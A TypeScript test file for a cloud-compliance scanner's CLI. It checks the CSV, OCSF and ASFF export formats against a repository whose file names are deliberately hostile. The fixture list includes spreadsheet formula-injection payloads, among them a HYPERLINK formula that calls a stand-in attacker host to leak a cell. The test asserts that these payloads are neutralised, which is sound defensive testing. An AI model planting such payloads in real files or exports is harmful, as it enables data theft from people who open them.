// The new formats from the built CLI: `scan -f csv|ocsf|asff` and `-o` with the format named or
// inferred from the extension, on a repository whose file names are hostile (formula starts, commas,
// quotes, a newline): what a spreadsheet, an OCSF consumer or Security Hub gets.
import { test, before } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Ajv2020 from 'ajv/dist/2020';
import { parse } from 'csv-parse/sync';
import { CSV_COLUMNS } from '../src/reporters/csv';
import { asffProblems, type AsffFinding } from '../src/reporters/asff';

const ROOT = join(import.meta.dirname, '..');
const CLI = join(ROOT, 'bin', 'cloudconform.js');
const validateOcsf = new Ajv2020({ allErrors: true, strict: false }).compile(
  JSON.parse(readFileSync(join(ROOT, 'test', 'fixtures', 'ocsf', 'compliance_finding-1.1.0-cloud.schema.json'), 'utf8')),
);

const NOTEBOOK = `Resources:
  Notebook:
    Type: AWS::SageMaker::NotebookInstance
    Properties:
      InstanceType: ml.t3.medium
      RoleArn: arn:aws:iam::111122223333:role/nb
      DirectInternetAccess: Enabled
`;
/** File names a contributor can commit. */
const HOSTILE_NAMES = ['=HYPERLINK("evil.example?"&A1,"x").yaml', '+1,"q".yaml', '-2+3.yaml', '@SUM(A1).yaml', 'new\nline.yaml', 'plain.yaml'];

let work: string;
before(() => {
  work = mkdtempSync(join(tmpdir(), 'cc-export-cli-'));
  mkdirSync(join(work, 'repo'));
  for (const name of HOSTILE_NAMES) writeFileSync(join(work, 'repo', name), NOTEBOOK);
});

function cli(args: string[], cwd = work) {
  return spawnSync(process.execPath, [CLI, ...args], { cwd, encoding: 'utf8', env: { ...process.env, NO_COLOR: '1', CLOUDCONFORM_DB: join(work, 'history.db') }, timeout: 60_000 });
}

test('scan -f csv: one row per finding, read back by csv-parse; hostile file names are cells that start no formula', () => {
  // Scanned from inside the repository, so the file names lead the cells.
  const out = cli(['scan', '.', '-f', 'csv', '--no-history'], join(work, 'repo'));
  assert.equal(out.status, 1, out.stderr);
  const rows = parse(out.stdout) as string[][];
  assert.deepEqual(rows[0], [...CSV_COLUMNS]);
  assert.equal(rows.length - 1, HOSTILE_NAMES.length);
  const files = rows.slice(1).map((r) => r[8] ?? '');
  for (const cell of rows.slice(1).flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, JSON.stringify(cell));
  assert.ok(files.includes(`'=HYPERLINK("evil.example?"&A1,"x").yaml`), files.join(' | '));
  assert.ok(files.includes(`'+1,"q".yaml`), 'a comma and quotes inside a cell read back as they are');
  assert.ok(files.includes(`'@SUM(A1).yaml`));
  assert.ok(files.includes('plain.yaml'));
  assert.ok(files.some((f) => f.startsWith('new') && f.endsWith('line.yaml')));
});

test('scan -f ocsf on standard output validates against the OCSF 1.1.0 Compliance Finding schema', () => {
  const out = cli(['scan', 'repo', '-f', 'ocsf', '--no-history']);
  assert.equal(out.status, 1, out.stderr);
  const events = JSON.parse(out.stdout) as unknown[];
  assert.equal(events.length, HOSTILE_NAMES.length);
  for (const e of events) assert.ok(validateOcsf(e), JSON.stringify(validateOcsf.errors));
});

test('-o writes csv, ocsf and asff, named (asff=FILE) or inferred (.csv, .ocsf.json), next to the text report', () => {
  const out = cli(['scan', 'repo', '--no-history', '-o', join(work, 'out', 'findings.csv'), '-o', join(work, 'out', 'findings.ocsf.json'), '-o', `asff=${join(work, 'out', 'findings.json')}`]);
  assert.equal(out.status, 1, out.stderr);
  assert.match(out.stdout, /SageMaker-004/);
  const csv = readFileSync(join(work, 'out', 'findings.csv'), 'utf8');
  assert.ok(csv.endsWith('\r\n'));
  assert.equal((parse(csv) as string[][]).length, HOSTILE_NAMES.length + 1);
  const events = JSON.parse(readFileSync(join(work, 'out', 'findings.ocsf.json'), 'utf8')) as unknown[];
  assert.ok(events.every((e) => validateOcsf(e)));
  const asff = JSON.parse(readFileSync(join(work, 'out', 'findings.json'), 'utf8')) as AsffFinding[];
  assert.equal(asff.length, HOSTILE_NAMES.length);
  for (const f of asff) {
    assert.deepEqual(asffProblems(f), []);
    assert.equal(f.Compliance.Status, 'FAILED');
    assert.ok(f.Compliance.RelatedRequirements?.includes('aws-fsbp/SageMaker.1'));
  }
  assert.equal(new Set(asff.map((f) => f.Id)).size, asff.length, 'one Id per finding');
});

test('an -o file of no known extension is a usage error naming the new ones', () => {
  const out = cli(['scan', 'repo', '--no-history', '-o', join(work, 'findings.xlsx')]);
  assert.equal(out.status, 2);
  assert.match(out.stderr, /\.csv, \.ocsf\.json or \.asff\.json/);
});
